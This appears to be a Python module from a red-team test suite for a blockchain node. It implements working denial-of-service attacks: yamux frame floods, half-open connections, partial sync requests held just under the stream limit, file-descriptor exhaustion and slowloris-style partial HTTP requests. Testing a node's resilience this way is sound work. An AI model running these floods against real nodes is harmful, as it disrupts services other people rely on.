"""Attacks below the chain's protocols: frames, partial handshakes and requests."""

from __future__ import annotations

import os
import secrets
import socket
import threading
from collections.abc import Callable
from contextlib import suppress

from cfnode.core.p2p.errors import RemoteError
from cfnode.core.p2p.multistream import MULTISTREAM_HEADER, line
from scripts.redteam_suite.attacks_rpc import forever
from scripts.redteam_suite.peers import (
    ACK,
    DATA,
    FRAMES_A_MESSAGE,
    PING,
    SYN,
    WINDOW,
    YAMUX,
    RawPeer,
    sources,
)
from scripts.redteam_suite.rpc_wire import connect
from scripts.redteam_suite.target import Target

CONNECTIONS = 8
HALF_OPEN = 40
GREEDY_CLIENT = "127.0.0.2"
"""Address other than 127.0.0.1, which may use all RPC connections."""
ADDRESSES = 7
GREEDY_PEERS = 3
STREAMS_A_ROUND = 6
ROUND_S = 0.1
MAX_STREAMS = 110
"""Streams of one connection that an attacker has open, below the 128 that a node allows."""

Frames = Callable[[RawPeer], bytes]


def flood(frames: Frames, target: Target, source: Callable[[], str]) -> Callable[[], None]:
    """Return a task that sends only these frames on a connection, as fast as the node reads them."""

    def task() -> None:
        with suppress(RemoteError):
            peer = RawPeer(target, secrets.token_bytes(32), source())
            with peer.sock:
                threading.Thread(target=peer.forget_all, daemon=True).start()
                peer.sock.settimeout(None)
                batch = frames(peer)
                while True:
                    peer.send(batch)

    return task


def pings(peer: RawPeer) -> bytes:
    """Return yamux pings as many as fit in one message."""
    return YAMUX.pack(0, PING, SYN, 0, 7) * FRAMES_A_MESSAGE


def pongs(peer: RawPeer) -> bytes:
    """Return unsolicited yamux answers to pings, as many as fit in one message."""
    return YAMUX.pack(0, PING, ACK, 0, 7) * FRAMES_A_MESSAGE


def windows(peer: RawPeer) -> bytes:
    """Return repeated windows of one more byte."""
    return YAMUX.pack(0, WINDOW, 0, peer.open_stream(), 1) * FRAMES_A_MESSAGE


def empties(peer: RawPeer) -> bytes:
    """Return data frames without data, and between them one frame with data."""
    stream = peer.open_stream()
    empty = YAMUX.pack(0, DATA, 0, stream, 0) * (FRAMES_A_MESSAGE - 1)
    return empty + YAMUX.pack(0, WINDOW, 0, stream, 1)


def empty_frames(target: Target) -> None:
    """Send yamux pings, pongs, empty frames and growing windows on eight connections (row 12)."""
    source = sources()
    for number in range(CONNECTIONS):
        forever(flood((pings, pongs, windows, empties)[number % 4], target, source))


def half_open(target: Target) -> None:
    """Open connections from seven addresses that are never secured, again at their end (row 13)."""
    source = sources(2, 1 + ADDRESSES)

    def task(first: bytes) -> None:
        with connect(target.peer, source()) as sock:
            sock.sendall(first)
            sock.settimeout(None)
            while sock.recv(4096):
                pass

    for number in range(HALF_OPEN):
        first = line(MULTISTREAM_HEADER) if number % 2 else b""
        forever(lambda first=first: task(first), 0.01)  # type: ignore[misc]


def half_requests(target: Target) -> None:
    """Let three peers send the length of a `sync/2` request and its first byte (row 14)."""
    source = sources()
    waiting = threading.Event()

    def task() -> None:
        with suppress(RemoteError):
            peer = RawPeer(target, secrets.token_bytes(32), source())
            with peer.sock:
                threading.Thread(target=peer.forget_all, daemon=True).start()
                for number in range(MAX_STREAMS * 10):
                    peer.begin_request("sync/2", b"\xc8\x01\x08")
                    if number % STREAMS_A_ROUND == 0:
                        waiting.wait(ROUND_S if number < MAX_STREAMS else 10 * ROUND_S)

    for _ in range(GREEDY_PEERS):
        forever(task)


def use_up_files(target: Target) -> list[socket.socket]:
    """Open silent connections to both ports until no more are accepted; return them (row 22)."""
    sockets: list[socket.socket] = []
    source = sources()
    for number in range(400):
        with suppress(OSError):
            sockets.append(connect(target.peer if number % 2 else target.rpc, source()))
    return sockets


def from_one_address(target: Target, count: int) -> list[socket.socket]:
    """Open RPC connections of one client, each with a partial request; return them (row 22)."""
    sockets: list[socket.socket] = []
    for _ in range(count):
        with suppress(OSError):
            sock = connect(target.rpc, GREEDY_CLIENT)
            sock.sendall(b"GET /health HTTP/1.1\r\nhost: localhost\r\nx-" + os.urandom(4).hex().encode())
            sockets.append(sock)
    return sockets


ATTACKS: dict[str, Callable[[Target], None]] = {"12": empty_frames, "13": half_open, "14": half_requests}
